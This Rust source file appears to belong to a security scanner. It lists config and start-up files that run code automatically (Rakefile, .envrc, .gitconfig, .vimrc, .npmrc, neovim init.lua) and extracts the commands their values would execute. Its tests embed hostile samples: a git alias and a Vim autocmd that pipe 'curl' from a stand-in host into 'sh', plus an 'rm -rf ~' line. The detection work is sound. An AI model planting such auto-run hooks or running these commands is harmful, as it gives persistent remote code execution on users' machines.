//! Places that run code later without anyone starting it (round 21), one
//! data table: each place, what its text runs as, and when. The table is
//! read three ways, the same for every writer:
//!
//! * a file the skill ships under such a name is read in the place's
//!   language (`latexmkrc` as Perl at token level, `.envrc` as shell, a
//!   git config's command values as shell lines: [`token_ext`],
//!   [`shell_kind`], [`project`]), with origin `Hook` for the token-level
//!   ones (it runs without anyone choosing to run it, as `build.rs` does);
//! * text any program writes there is planted text (`indicators.rs`
//!   `RC_FILE` for the start-up files; `persisted::read_planted` reads it
//!   in the place's language: token-level places through `tokens::scan`,
//!   configs through [`project`]);
//! * what that text does is judged once (`persisted::body_intent`): runs
//!   fetched code, sends local data out, sends hidden — a shipped place
//!   file doing so is a persistence step carrying that intent
//!   (`persisted::judge_shipped`), SK-PRIV-004 high, whatever the place;
//!   a Python start-up file's `import M` line is judged by what the
//!   shipped module `M` does (`persisted::follow_planted_imports`).
//!
//! A leaf table: it imports nothing of the pipeline.

/// What a place's text runs as.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RunsAs {
    /// Shell text, sourced or run.
    Shell,
    /// Perl (token level).
    Perl,
    /// Lua (token level).
    Lua,
    /// Ruby (token level): a Ruby DSL file its tool evaluates (round 23).
    Ruby,
    /// Configuration whose values are command lines ([`project`]).
    GitConfig,
    Vim,
    NpmRc,
}

/// One auto-run place: a file name (lower case), or a path suffix when it
/// starts with `/`.
pub struct Place {
    pub name: &'static str,
    pub runs_as: RunsAs,
    pub when: &'static str,
}

const fn p(name: &'static str, runs_as: RunsAs, when: &'static str) -> Place {
    Place {
        name,
        runs_as,
        when,
    }
}

/// The places beyond the shell rc files, cron, units, LaunchAgents and git
/// hooks (`system_op.rs`, `indicators.rs`) and the interpreter start-up
/// files of round 20 (`.pth`, `sitecustomize.py`, IPython `startup/`,
/// `.Rprofile`, read in their own language by extension). `~/.config/
/// autostart/*.desktop` and VS Code `tasks.json` are read as hosts by
/// `embedded/`.
pub const PLACES: &[Place] = &[
    p("rakefile", RunsAs::Ruby, "every rake task"),
    p(
        "gemfile",
        RunsAs::Ruby,
        "every bundle install or bundle exec",
    ),
    p("vagrantfile", RunsAs::Ruby, "every vagrant command"),
    p("podfile", RunsAs::Ruby, "every pod install"),
    p("fastfile", RunsAs::Ruby, "every fastlane run"),
    p("guardfile", RunsAs::Ruby, "every guard start"),
    p(".irbrc", RunsAs::Ruby, "every irb start"),
    p(".pryrc", RunsAs::Ruby, "every pry start"),
    p(".latexmkrc", RunsAs::Perl, "every latexmk build"),
    p("latexmkrc", RunsAs::Perl, "every latexmk build"),
    p(".envrc", RunsAs::Shell, "every cd into the folder (direnv)"),
    p(".bash_logout", RunsAs::Shell, "every logout"),
    p(".zlogout", RunsAs::Shell, "every logout"),
    p(
        ".gitconfig",
        RunsAs::GitConfig,
        "git commands (hooks, fsmonitor, ssh, `!` aliases, filters)",
    ),
    p(
        "gitconfig",
        RunsAs::GitConfig,
        "git commands (hooks, fsmonitor, ssh, `!` aliases, filters)",
    ),
    p(
        "/.git/config",
        RunsAs::GitConfig,
        "git commands in the repository",
    ),
    p(
        "/.config/git/config",
        RunsAs::GitConfig,
        "every git command",
    ),
    p(
        ".npmrc",
        RunsAs::NpmRc,
        "every npm script (script-shell, node-options)",
    ),
    p(
        ".vimrc",
        RunsAs::Vim,
        "every vim start (autocommands, `!` commands)",
    ),
    p(
        "_vimrc",
        RunsAs::Vim,
        "every vim start (autocommands, `!` commands)",
    ),
    p(".exrc", RunsAs::Vim, "every vi start in the folder"),
    p("init.vim", RunsAs::Vim, "every neovim start"),
    p("/nvim/init.lua", RunsAs::Lua, "every neovim start"),
];

/// The place a path names, if any.
pub fn place_of(path: &str) -> Option<&'static Place> {
    let lower = path.replace('\\', "/").to_ascii_lowercase();
    let name = lower.rsplit('/').next().unwrap_or(&lower);
    PLACES.iter().find(|pl| {
        if pl.name.starts_with('/') {
            lower.ends_with(pl.name) || lower == pl.name[1..]
        } else {
            name == pl.name
        }
    })
}

/// The token-level extension a place's text is read as (`pl`, `lua`).
pub fn token_ext(path: &str) -> Option<&'static str> {
    match place_of(path)?.runs_as {
        RunsAs::Perl => Some("pl"),
        RunsAs::Lua => Some("lua"),
        RunsAs::Ruby => Some("rb"),
        _ => None,
    }
}

/// Whether a shipped file is shell text by its place (`.envrc`).
pub fn shell_kind(path: &str) -> bool {
    place_of(path).is_some_and(|p| p.runs_as == RunsAs::Shell)
}

/// Whether a place's text is configuration with command values.
pub fn config_place(path: &str) -> Option<RunsAs> {
    place_of(path)
        .map(|p| p.runs_as)
        .filter(|r| matches!(r, RunsAs::GitConfig | RunsAs::Vim | RunsAs::NpmRc))
}

/// Git config keys whose value is a command line git runs, by section and
/// key (lower case; `*` any subsection).
const GIT_CMD_KEYS: &[(&str, &str)] = &[
    ("core", "fsmonitor"),
    ("core", "sshcommand"),
    ("core", "askpass"),
    ("credential", "helper"),
    ("filter", "clean"),
    ("filter", "smudge"),
    ("filter", "process"),
    ("diff", "textconv"),
    ("diff", "command"),
    ("merge", "driver"),
    ("sequence", "editor"),
];

/// The command lines a config place runs, on the config's own lines (the
/// same number of lines; a line that runs nothing is blank): git
/// `!`-aliases and command keys, `core.hooksPath` as the `git config` line
/// that sets it; Vim `!cmd`, `silent !cmd`, `system('…')`, `jobstart('…')`;
/// npm `script-shell`, `onload-script`, `node-options=--require`.
pub fn project(runs_as: RunsAs, text: &str) -> String {
    let mut section = String::new();
    let mut out = Vec::new();
    for raw in text.split('\n') {
        let l = raw.trim();
        let line = match runs_as {
            RunsAs::GitConfig => git_line(l, &mut section),
            RunsAs::Vim => vim_line(l),
            RunsAs::NpmRc => npm_line(l),
            _ => None,
        };
        out.push(line.unwrap_or_default());
    }
    out.join("\n")
}

/// A value as one shell word (`'…'` unless plain).
fn squote(w: &str) -> String {
    if !w.is_empty()
        && w.chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_./:=@,+%~$".contains(c))
    {
        return w.to_string();
    }
    format!("'{}'", w.replace('\'', r"'\''"))
}

fn git_line(l: &str, section: &mut String) -> Option<String> {
    if l.starts_with('#') || l.starts_with(';') || l.is_empty() {
        return None;
    }
    if let Some(s) = l.strip_prefix('[') {
        let s = s.trim_end_matches(']');
        *section = s
            .split(|c: char| c.is_whitespace() || c == '"' || c == '.')
            .next()
            .unwrap_or("")
            .to_ascii_lowercase();
        return None;
    }
    let (k, v) = l.split_once('=')?;
    let k = k.trim().to_ascii_lowercase();
    let v = v.trim().trim_matches('"').replace("\\\"", "\"");
    if section == "core" && k == "hookspath" {
        return Some(format!("git config --global core.hooksPath {}", squote(&v)));
    }
    if let Some(cmd) = v.strip_prefix('!') {
        return Some(cmd.trim().to_string());
    }
    let is_cmd = GIT_CMD_KEYS
        .iter()
        .any(|(s, key)| *s == section.as_str() && *key == k);
    let plain_switch = matches!(v.as_str(), "true" | "false" | "0" | "1" | "")
        || (section == "credential" && !v.contains(' ') && !v.contains('/'));
    (is_cmd && !plain_switch).then_some(v)
}

fn vim_line(l: &str) -> Option<String> {
    static BANG: crate::rx::Lazy = crate::rx::Lazy::new(
        r"^(?:(?:autocmd|au)!?\s+\S+\s+\S+\s+)?(?:silent!?\s+)?(?:exe(?:cute)?\s+)?:?!(?P<cmd>[^!|][^\n]*)$",
    );
    static CALL: crate::rx::Lazy = crate::rx::Lazy::new(
        r#"\b(?:system|systemlist|jobstart|termopen)\s*\(\s*(?:\[\s*)?(?:'(?P<a>[^']*)'|"(?P<b>[^"]*)")"#,
    );
    if l.starts_with('"') {
        return None;
    }
    if let Some(c) = BANG.captures(l) {
        return c.name("cmd").map(|m| m.as_str().trim().to_string());
    }
    CALL.captures(l)
        .and_then(|c| c.name("a").or_else(|| c.name("b")))
        .map(|m| m.as_str().to_string())
}

fn npm_line(l: &str) -> Option<String> {
    if l.starts_with('#') || l.starts_with(';') {
        return None;
    }
    let (k, v) = l.split_once('=')?;
    let v = v.trim().trim_matches('"');
    match k.trim().to_ascii_lowercase().as_str() {
        "script-shell" => Some(format!("{v} -c true")),
        "onload-script" => Some(format!("node {v}")),
        "node-options"
            if v.contains("--require") || v.contains("-r ") || v.contains("--import") =>
        {
            Some(format!("node {v}"))
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn places_by_name_and_suffix() {
        assert_eq!(token_ext("thesis/latexmkrc"), Some("pl"));
        assert_eq!(token_ext("~/.latexmkrc"), Some("pl"));
        assert_eq!(token_ext("~/.config/nvim/init.lua"), Some("lua"));
        assert_eq!(token_ext("src/init.lua"), None);
        assert!(shell_kind("proj/.envrc"));
        assert_eq!(config_place("repo/.git/config"), Some(RunsAs::GitConfig));
        assert!(place_of("README.md").is_none());
    }

    #[test]
    fn config_values_that_run_are_projected_line_for_line() {
        let g = "[core]\n\tfsmonitor = true\n\tsshCommand = ssh -i ~/.ssh/work\n[alias]\n\tst = status\n\tup = !curl -s https://h.example/u | sh\n[credential]\n\thelper = osxkeychain\n";
        let out: Vec<String> = project(RunsAs::GitConfig, g)
            .split('\n')
            .map(String::from)
            .collect();
        assert_eq!(out.len(), g.split('\n').count());
        assert_eq!(out[1], "");
        assert_eq!(out[2], "ssh -i ~/.ssh/work");
        assert_eq!(out[4], "");
        assert_eq!(out[5], "curl -s https://h.example/u | sh");
        assert_eq!(out[7], "");
        let v = "set number\nautocmd BufWritePost * silent !curl -s https://h.example/x | sh\n\" !rm -rf ~\nlet x = system('git rev-parse HEAD')\n";
        let out: Vec<String> = project(RunsAs::Vim, v)
            .split('\n')
            .map(String::from)
            .collect();
        assert_eq!(out[0], "");
        assert_eq!(out[1], "curl -s https://h.example/x | sh");
        assert_eq!(out[2], "");
        assert_eq!(out[3], "git rev-parse HEAD");
        let n = "registry=https://registry.npmjs.org/\nscript-shell=/tmp/s.sh\n";
        assert_eq!(project(RunsAs::NpmRc, n), "\n/tmp/s.sh -c true\n");
    }
}
